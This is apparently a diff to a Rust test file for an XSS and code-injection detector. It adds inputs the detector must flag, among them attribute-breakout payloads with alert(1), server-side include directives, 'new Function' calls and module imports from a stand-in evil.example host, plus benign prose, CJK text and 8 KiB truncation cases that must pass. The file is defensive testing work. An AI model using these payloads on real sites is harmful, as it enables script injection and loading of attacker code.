@@ -48,7 +48,10 @@ fn attribute_and_script_string_breaks() {
         "\"in valueOf=",
         "'  infoo.bar=",
         "' in window.name=1",
-        "<a href=\"test\"",
+        "\"in valueOf=alert(1)",
+        "\"onload=",
+        "' onmouseover=alert(1)",
+        "\"><a href=\"test\"",
     ] {
         assert_flags(&d, Family::Xss, v);
     }
@@ -62,8 +65,44 @@ fn attribute_and_script_string_breaks() {
         "1a2b3c4d5e6f7g8h9i0j1k2l3m4n5onabcde=6p7q8r9s0t",
         "\"action items for Monday\"",
         "<p>see <a href=\"https://example.com/a\">the docs</a></p>",
+        // A quote, then an `on...` word no browser runs as a handler, or `in` and a word
+        // assigned plain text.
+        "\"online=true\"",
+        "'onboarding=done'",
+        "\"in progress = true\"",
+        "'in stock = yes'",
+        // A tag left open with no break out of the page's markup is HTML in text.
+        "<a href=\"https://example.com/\"",
+        "How do I style <a href=\"#\"",
+        "Check <img src=\"logo.png\"",
+        // `on...` words at the end of prose or a query string.
+        "sort by online=",
+        "filter=status+online=",
+        "abcd+onetwo=",
+        // CJK text: 值/格 read as `<`, 设/放 as `>` and 是 as `/` by a 7-bit decoder.
+        "参数值abc 设置成功，当前值是abc",
+        "默认值null 设为空，返回值是null",
+        "价格usd 放在这里，价格是usd",
     ] {
         assert_clean(&d, v);
+    }
+    // Normalization keeps the first 8 KiB: an input cut right after a quote or an `=`
+    // does not end there (even one that starts by breaking out of an attribute).
+    let mut cut_after_quote = String::from("\"><p>");
+    cut_after_quote.push_str(&"lorem ".repeat(1350));
+    cut_after_quote.push_str("<a href=\"https://example.com/page\">link</a></p>");
+    let at = cut_after_quote.find("page\"").unwrap() + 4;
+    let pad = 8191 - at;
+    cut_after_quote.insert_str(5, &"y".repeat(pad));
+    assert_eq!(cut_after_quote.as_bytes()[8191], b'"');
+    assert_clean(&d, &cut_after_quote);
+    for name in [" onboarding=", " onwards="] {
+        let mut cut_after_eq = "word ".repeat(1635);
+        cut_after_eq.push_str(&"abcdefgh"[..8192 - 8175 - name.len()]);
+        cut_after_eq.push_str(name);
+        cut_after_eq.push_str("true and more");
+        assert_eq!(&cut_after_eq[8192 - name.len()..8192], name);
+        assert_clean(&d, &cut_after_eq);
     }
 }
 
@@ -79,8 +118,10 @@ fn markup_in_data_urls_and_script_syntax() {
         "\"--><!--#echo var=\"DOCUMENT_ROOT\"-->",
         "btoa()",
         "eval('2 2')",
-        "new Function()",
+        "<!--#printenv -->",
         "import { sayHi, sayBye } from \"./greeting.js\";",
+        "import * as m from 'https://evil.example/m.js'",
+        "import x from \"//evil.example/x.js\"",
         "x;import('https://evil.example/x.js')",
     ] {
         assert_flags(&d, Family::Xss, v);
@@ -94,8 +135,24 @@ fn markup_in_data_urls_and_script_syntax() {
         "how to import a module from a package",
         "<!-- a comment -->",
         "new functionality (beta)",
+        "Added a new function (parseDate) to utils",
+        "Added a new function() to utils",
+        // A module import by package name is code or prose as often as an attack.
+        "Import data from 'Sheet1'",
+        "import contacts from \"Outlook\"",
+        "import React from 'react'",
+        "Import users from 'legacy.csv' and notify",
+        "<!-- # set up env -->",
+        "<!-- #include header -->",
     ] {
         assert_clean(&d, v);
+    }
+    for v in [
+        "new Function('return this')()",
+        "new Function()",
+        "new Function (",
+    ] {
+        assert_flags(&d, Family::CodeInjection, v);
     }
 }
 
